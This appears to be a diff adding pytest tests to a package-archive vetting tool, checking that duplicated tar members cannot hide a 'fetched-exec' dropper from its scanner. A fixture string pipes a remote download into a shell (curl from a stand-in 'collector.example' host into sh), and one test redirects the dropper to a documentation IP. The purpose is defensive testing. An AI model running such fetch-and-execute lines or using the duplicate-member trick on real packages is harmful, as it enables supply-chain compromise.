@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import io
+import tarfile
+
 import pytest
 
 from pratique.vet.base import Base
 from pratique.vet.engine import facts_of, vet_archive
 from pratique.vet.model import Report
-from vet.test_engine import CLEAN, NEXT, WHEEL, wheel
+from vet.test_engine import CLEAN, DROPPER, NEXT, WHEEL, wheel
 
 # Inert: the host does not exist, and nothing here is ever run.
 DEED = "os.system('curl https://collector.example/x | sh')"
@@ -131,3 +134,60 @@ def test_quiet_lines_that_set_off_nothing_are_not_parsed() -> None:
         outcome = vet_archive(wheel({**CLEAN, "demo/core.py": new}, "1.1"), NEXT, base=base)
         assert outcome.partial
         assert outcome.report.analysed == same.report.analysed  # metadata only
+
+
+# ── one path twice, one content twice ────────────────────────────────────────────────────────
+
+
+def sdist(members: list[tuple[str, str]], version: str) -> tuple[bytes, str]:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as archive:
+        for path, text in members:
+            info = tarfile.TarInfo(f"demo-{version}/{path}")
+            info.size = len(text)
+            archive.addfile(info, io.BytesIO(text.encode()))
+    return out.getvalue(), f"demo-{version}.tar.gz"
+
+
+INIT = ("demo/__init__.py", "from . import core\n")
+
+
+def deeds(report: Report) -> set[str]:
+    return {f.path.partition("/")[2] for f in report.findings if f.rule == "fetched-exec"}
+
+
+@pytest.mark.parametrize("turn", [1, -1])
+def test_a_second_content_of_a_path_is_not_taken_for_the_first(turn: int) -> None:
+    base = facts_of(*sdist([INIT, ("demo/core.py", HEAD + GO + FILLER)], "1.0"))
+    quiet = HEAD + GO + FILLER.replace("total = value", "total = 1 + value", 1)
+    assert vet_archive(*sdist([INIT, ("demo/core.py", quiet)], "1.1"), base=base).partial
+    two = [("demo/core.py", quiet), ("demo/core.py", DROPPER)][::turn]
+    report = vet_archive(*sdist([INIT, *two], "1.1"), base=base).report
+    assert deeds(report) == {"demo/core.py"}
+
+
+@pytest.mark.parametrize("turn", [1, -1])
+def test_two_contents_of_a_path_are_joined_when_both_were_read(turn: int) -> None:
+    noise = "import socket\n\n\ndef hello(host):\n    return socket.gethostbyname(host)\n" * 60
+    padding = [(f"demo/a{i}.py", f"# {i}\n" + noise) for i in range(40)]
+    deed = noise + DROPPER.replace("https://collector.example", "http://203.0.113.7:8080")
+    two = [("demo/core.py", noise + "# 1\n"), ("demo/core.py", deed)][::turn]
+    assert "demo/core.py" in deeds(vet_archive(*sdist([*padding, INIT, *two], "1.0")).report)
+
+
+def test_a_content_read_by_its_changes_is_read_anew_at_another_path() -> None:
+    """There it runs unasked, and its calls count."""
+    old = HEAD + GO + FILLER
+    new = old.replace("    return total\n", "    return other(total)\n", 1) + "\n\nfiller_3(1)\n"
+    members = [INIT, ("demo/core.py", old), ("demo/build.py", "X = 1\n")]
+    base = facts_of(*sdist(members, "1.0"))
+    outcome = vet_archive(
+        *sdist([INIT, ("demo/core.py", new), ("setup.py", new)], "1.1"), base=base
+    )
+    calls = {
+        call
+        for (_, _), facts in outcome.new.items()
+        for region in facts.regions
+        for call in region.calls
+    }
+    assert ".filler_3" in calls
